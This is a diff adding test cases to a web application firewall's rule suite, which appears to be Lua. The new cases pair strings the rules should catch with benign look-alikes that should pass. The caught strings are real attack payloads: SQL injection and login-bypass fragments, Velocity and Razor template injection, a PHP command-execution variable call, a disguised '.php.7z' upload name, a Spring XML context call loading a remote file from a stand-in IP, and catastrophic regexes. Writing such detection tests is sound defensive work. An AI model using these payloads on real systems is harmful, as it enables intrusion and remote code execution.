@@ -70,4 +70,37 @@ describe("edge.waf.rules hundred-and-sixty-seventh round on", function()
         clean({ "https://github.com/frohoff/ysoserial", "PHPGGC and ysoserial: pentest image only", "ysoserial",
             "ysoserial.net is the .NET port" })
     end)
+
+    it("SQL: a scanner's syntax-breaking tail of quotes, parentheses, commas and dots after a short value", function()
+        caught_by(142280, { "1,'.)(\".((", "1)(\"'.,.((", "abc'..)(,\"" })
+        clean({ "he said \"ok\" (...)", "(((", "1.2.3", "...)))", "(see p. 4).)" })
+    end)
+
+    it("templates: Velocity reaching the servlet through $request or $session; Razor's System.Threading", function()
+        caught_by(134150, { "$request.getSession().getServletContext()", '$session.getAttribute("user")',
+            "@System.Threading.Thread.Sleep(5000)" })
+        clean({ "request.getSession() in Java", "the $request object", "System.Threading docs" })
+    end)
+
+    it("SQL: a login's name closed and commented out, one word after in any language", function()
+        caught_by(142280, { "admin'-- senha", "root\"-- masuk", "bob') -- pass" })
+        clean({ "it's-- fine", "O'Brien -- team lead", "see 'foo' -- bar" })
+    end)
+
+    it("PHP: a variable set to a command function's name and called (any script's name); .php before .7z", function()
+        caught_by(133180, { "$函数='system';$函数('id');", "$f = \"exec\"; $f($_GET[1])" })
+        caught_by(133140, { "1.php.7z", "up/shell.php.7z" })
+        clean({ "$mode = 'system';", "$theme='system'; $x(1)", "backup.7z" })
+    end)
+
+    it("Java: Spring's XML application context under any package prefix (WebLogic repackages it)", function()
+        caught_by(144200, { 'com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('
+            .. '"http://203.0.113.77/poc.xml")' })
+        clean({ "FileSystemXmlApplicationContext is deprecated in our codebase" })
+    end)
+
+    it("Node.js: a catastrophic regex whose group holds only a quantified group", function()
+        caught_by(135120, { "((ab)*)+c", "((?:x)+)*$" })
+        clean({ "((a)(b))", "((see note 2))", "(f(x))+1" })
+    end)
 end)
